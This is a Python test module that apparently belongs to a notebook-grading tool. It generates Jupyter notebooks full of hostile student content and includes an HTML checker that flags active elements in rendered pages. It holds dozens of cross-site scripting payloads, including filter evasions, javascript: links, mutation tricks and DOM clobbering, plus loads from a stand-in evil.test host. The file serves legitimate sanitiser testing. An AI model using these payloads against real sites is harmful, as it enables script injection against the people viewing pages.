"""What students may write to attack who looks at it, and how to find it in a page."""

import base64
import re
from html.parser import HTMLParser

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

ELSEWHERE = "http://evil.test/"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA"
    "AABJRU5ErkJggg=="
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>'
SVG64 = base64.b64encode(SVG.encode()).decode()

MARKDOWN = {
    "script": "<script>pwned()</script>",
    "script from elsewhere": f"text <script src={ELSEWHERE}a.js></script>",
    "script in pieces": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "unclosed script": "<script>pwned()//",
    "image with onerror": "<img src=x onerror=pwned()>",
    "image, no spaces": "<img/src=x/onerror=pwned()>",
    "image elsewhere": f"![alt]({ELSEWHERE}a.png) <img src={ELSEWHERE}b.png>",
    "image set": f'<img srcset="{ELSEWHERE}c.png 2x" src="//evil.test/d.png">',
    "attribute broken in alt": '![" onerror="pwned()](x.png)',
    "attribute broken in title": '![a](x.png "&quot; onerror=pwned() x=&quot;")',
    "attribute broken in address": '[a](<" onmouseover="pwned()>)',
    "formula in alt": '![$\\text{"><img src=x onerror=pwned()>}$](x.png)',
    "link to javascript": "[a](javascript:pwned())",
    "link, mixed case": "[a](JaVaScRiPt:pwned())",
    "link with entities": "[a](&#106;avascript&colon;pwned())",
    "link with a line break": '<a href="java&#10;script:pwned()">a</a>',
    "link with control characters": '<a href="&#1;javascript:pwned()">a</a>',
    "link to vbscript": "[a](vbscript:pwned())",
    "link to data": "[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "raw link to data": '<a href="data:text/html,<script>pwned()</script>">a</a>',
    "link to a file beside": "[a](evil.html) [b](../../../logout) [c](//evil.test/)",
    "autolink": "<javascript:pwned()> <http://evil.test/?a='onclick=pwned()>",
    "reference link": "[a][1] ![b][2]\n\n[1]: javascript:pwned()\n[2]: " + ELSEWHERE,
    "svg": "<svg onload=pwned()><script>pwned()</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:pwned()"/>'
    "<text>a</text></a></svg>",
    "math": '<math><mtext><table><mglyph><style><img src="</style><img src=x '
    'onerror=pwned()>"></mglyph></table></mtext></math>',
    "math link": '<math href="javascript:pwned()"><mi>a</mi></math>',
    "annotation": '<math><annotation-xml encoding="text/html"><script>pwned()</script>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "template": "<template><script>pwned()</script></template>",
    "iframe": f'<iframe src={ELSEWHERE}></iframe><iframe srcdoc="&lt;script&gt;'
    'parent.pwned()&lt;/script&gt;"></iframe>',
    "object": f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}e.swf>",
    "refresh": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "base": f"<base href={ELSEWHERE}>",
    "link element": f"<link rel=stylesheet href={ELSEWHERE}a.css>",
    "style element": f'<style>@import "{ELSEWHERE}b.css"; p {{ color: red }}</style>',
    "style attribute": f'<p style="background:url({ELSEWHERE}f.png);position:fixed">a',
    "style of a table": f'<td style="text-align:left;background:url({ELSEWHERE}g)">',
    "form": f'<form action={ELSEWHERE}><button formaction="javascript:pwned()">a',
    "form elsewhere": "<button form=other onclick=pwned()>a</button><input autofocus "
    "onfocus=pwned()>",
    "media": f"<video src={ELSEWHERE}v poster={ELSEWHERE}p><audio src={ELSEWHERE}a "
    "onerror=pwned()>",
    "details": "<details open ontoggle=pwned()>a</details>",
    "marquee": "<marquee onstart=pwned()>a</marquee>",
    "background": f"<table background={ELSEWHERE}t.png><tr><td background=//evil.test>",
    "unclosed elements": "<div><b><i><table><tr><td><a title='",
    "closing elements": "</div></section></main></body></html><script>pwned()</script>",
    "a thousand elements": "<b>" * 1_000 + "<script>pwned()</script>",
    "raw text elements": "<xmp><textarea><title><plaintext><script>pwned()</script>",
    "conditional comment": "<!--[if IE]><script>pwned()</script><![endif]-->",
    "unclosed comment": "<!-- <img src=x onerror=pwned()> --!><script>pwned()</script>",
    "processing instruction": "<?xml-stylesheet href='javascript:pwned()'?>"
    "<![CDATA[<script>pwned()</script>]]>",
    "clobbering": '<a id=submission_id name=base_url class="full-credit btn">a</a>',
    "place of a formula": '<span data-kept="0-0"></span><span data-kept></span> $x$',
    "attached svg": "![a](attachment:evil.svg) ![b](attachment:evil.html)",
    "picture that is none": f"<img src=data:image/svg+xml;base64,{SVG64}>",
    "formula with a link": r"$\href{javascript:pwned()}{x}$ $\url{javascript:pwned()}$",
    "formula with a script": r"$x</annotation></math><script>pwned()</script>$",
    "formula with a style": rf"$\style{{background:url({ELSEWHERE}s)}}{{x}}$",
    "formula with text": r"$\text{<img src=x onerror=pwned()>}\operatorname{<b>}$",
    "fence": "```html\n</code></pre><script>pwned()</script>\n```",
    "fence's language": '```"><script>pwned()</script>\nx\n```',
    "mermaid": "```mermaid\n<img src=x onerror=pwned()>\n```",
    "code span": "`<script>pwned()</script>`",
    "table": "| <script>pwned()</script> | a |\n|---|---|\n| $<img src=x> | b |",
}


def bundle(mime, content, **metadata):
    data = {mime: content, "text/plain": "instead"}
    return new_output("display_data", data=data, metadata=metadata)


OUTPUTS = {
    "html": bundle("text/html", "<script>pwned()</script><img src=x onerror=pwned()>"),
    "isolated html": bundle("text/html", "<b>", **{"text/html": {"isolated": True}}),
    "javascript": bundle("application/javascript", "pwned()"),
    "svg": bundle("image/svg+xml", SVG),
    "markdown": bundle("text/markdown", "<script>pwned()</script>"),
    "latex": bundle("text/latex", r"$\href{javascript:pwned()}{x}$</div><script>"),
    "widget": bundle(
        "application/vnd.jupyter.widget-view+json", {"model_id": "</script>"}
    ),
    "mermaid": bundle("text/vnd.mermaid", "<img src=x onerror=pwned()>"),
    "pdf": bundle("application/pdf", "AAAA"),
    "jpeg": bundle("image/jpeg", '"><script>pwned()</script>'),
    "png that is none": bundle("image/png", '"><script>pwned()</script>'),
    "png with a size": bundle(
        "image/png", PNG, **{"image/png": {"width": "1 onerror=pwned()", "alt": '"'}}
    ),
    "text": new_output("execute_result", data={"text/plain": "</pre><script>pwned()"}),
    "stream": new_output(
        "stream",
        text="\x1b[31m</pre><script>pwned()</script>\x1b]8;;javascript:x\x07\x1b[0m",
    ),
    "colour": new_output("stream", text='\x1b[38;2;1;2;"><script>pwned()</script>m'),
    "error": new_output(
        "error",
        ename="<script>pwned()</script>",
        evalue="</pre><img src=x onerror=pwned()>",
        traceback=[
            "\x1b[31m<script>pwned()</script>",
            "</pre></div><svg onload=pwned()>",
        ],
    ),
}
SOURCES = {
    "closing": "x = '</pre></div></script><script>pwned()</script>'",
    "html magic": "%%html\n<script>pwned()</script>",
    "an error of the lexer": "?$<script>pwned()</script>",
    "a long line": "x = '" + "<script>pwned()</script>" * 100 + "'",
}


def own(name, **kind):
    given = {"grade": False, "solution": False, "locked": True, "task": False}
    return {"nbgrader": {**given, "schema_version": 3, "grade_id": name, **kind}}


def hostile_cells():
    attachments = {
        "evil.svg": {"image/svg+xml": SVG64, "image/png": SVG64},
        "evil.html": {"text/html": '"><script>pwned()</script>'},
    }
    for source in MARKDOWN.values():
        yield new_markdown_cell(source, attachments=attachments)
    for mime in ("text/html", "", "text/latex"):
        raw = (
            "```\n</code></pre><script>pwned()</script><img src=http://evil.test/r.png>"
        )
        yield new_raw_cell(raw, metadata={"raw_mimetype": mime})
    for output in OUTPUTS.values():
        yield new_code_cell("1", outputs=[output])
    for source in SOURCES.values():
        yield new_code_cell(source)
    evil = '"><script>pwned()</script>'
    yield new_code_cell(
        "2", metadata={"tags": [evil], "magics_language": evil, "alt": evil}
    )
    yield new_markdown_cell("3", metadata=own(evil, solution=True, task=True, points=1))


class Elements(HTMLParser):
    """The elements of a page, with the text of scripts and styles."""

    def __init__(self, page):
        super().__init__()
        self.found, self.text, self._inside = [], [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._inside = tag
        self.found.append((tag, tuple((k, v or "") for k, v in attrs)))

    def handle_endtag(self, tag):
        self._inside = ""

    def handle_data(self, data):
        if self._inside in ("script", "style"):
            self.found.append((self._inside, (("text", data),)))
        else:
            self.text.append(data)


# fmt: off
ACTIVE = {
    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button",
    "textarea", "select", "base", "link", "meta", "style", "svg", "template", "portal",
    "noscript", "video", "audio", "source", "track", "marquee",
}
ADDRESSES = {
    "href", "src", "srcset", "action", "formaction", "data", "poster", "background",
    "xlink:href",
}
# fmt: on
OTHER = {"id", "name", "srcdoc", "form"}
SCHEME = re.compile(r"(javascript|vbscript|data:(?!image/png;base64,))", re.IGNORECASE)


def wrong(elements):
    """Whatever of the elements runs, loads or poses as a part of the page."""
    for tag, attributes in elements:
        if tag in ACTIVE:
            yield f"<{tag}>: {attributes}"
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20\x7f-\x9f]", "", value)
            if name.startswith("on") or name in OTHER:
                yield f"<{tag} {name}={value}>"
            if name in ADDRESSES and SCHEME.match(address):
                yield f"<{tag} {name}={value}>"
            if name in ADDRESSES and tag != "a" and not address.startswith("data:"):
                yield f"<{tag} {name}={value}> loads"
            if name == "href" and not re.match("https?://|mailto:|#", address):
                yield f"<{tag} {name}={value}> leads to this server"
            if name == "style" and re.search(r"url|import|position|expr", value):
                yield f"<{tag} style={value}>"
            if name == "class" and re.search("btn|credit|score", value):
                yield f"<{tag} class={value}>"
